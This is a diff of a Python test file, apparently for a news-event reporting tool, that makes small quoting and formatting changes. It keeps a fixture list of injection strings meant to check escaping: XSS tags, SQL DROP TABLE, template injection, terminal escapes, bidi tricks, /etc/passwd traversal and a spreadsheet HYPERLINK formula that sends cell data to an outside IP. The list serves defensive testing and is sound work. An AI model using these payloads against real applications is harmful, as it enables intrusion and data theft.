@@ -19,12 +19,12 @@ from printed import Sentence, derivation
 # terminal, text turned round or hidden (Unicode's bidi controls, zero widths), paths.
 PHRASES = (
     "<script>document.title='owned'</script>",
-    "\"><img src=x onerror=\"document.title='owned'\">",
+    '"><img src=x onerror="document.title=\'owned\'">',
     "</mark></title></textarea></svg><svg onload=alert(1)>",
     "javascript:alert(document.domain)",
     "{{7*7}}${7*7}<%= 7*7 %>",
     "'; DROP TABLE judgement; --",
-    "=HYPERLINK(\"http://192.0.2.7/?\"&A1)",
+    '=HYPERLINK("http://192.0.2.7/?"&A1)',
     "\x1b[2J\x1b]0;owned\x07",
     "\u202egnp.exe\u202c \u2066turned\u2069 \u200bhidden\ufeff",
     "../../../../etc/passwd",
@@ -59,7 +59,9 @@ def _happening(number: int, phrase: str) -> Happening:
     place = Place(phrase, "IQ", 33.0 + number / 10, 44.0, phrase, 1 + number % 6)
     city = City(place, Place("Iraq", "IQ", 33.0, 44.0, kind="country"), (phrase, f"the {phrase} Front"), 1.0)
     toll = {"killed": number, "injured": 2 * number}
-    return Happening(number, city, date(2024, 3, 4) + timedelta(days=number), number % 8, toll, phrase, phrase, phrase)
+    return Happening(
+        number, city, date(2024, 3, 4) + timedelta(days=number), number % 8, toll, phrase, phrase, phrase
+    )
 
 
 def _story(press: Press, happening: Happening) -> Told:
@@ -76,7 +78,7 @@ def _story(press: Press, happening: Happening) -> Told:
         printed.page = _linked(printed.page, link, happening.name)
         printed.report = _signed(printed.report, link, happening.name)
     kin = derivation(second, first, "republished")
-    return Told((first, second), (kin,), {r: first.report.id for r in (first.report.id, second.report.id)})
+    return Told((first, second), (kin,), dict.fromkeys((first.report.id, second.report.id), first.report.id))
 
 
 def _linked(page: Page, link: str, phrase: str) -> Page:
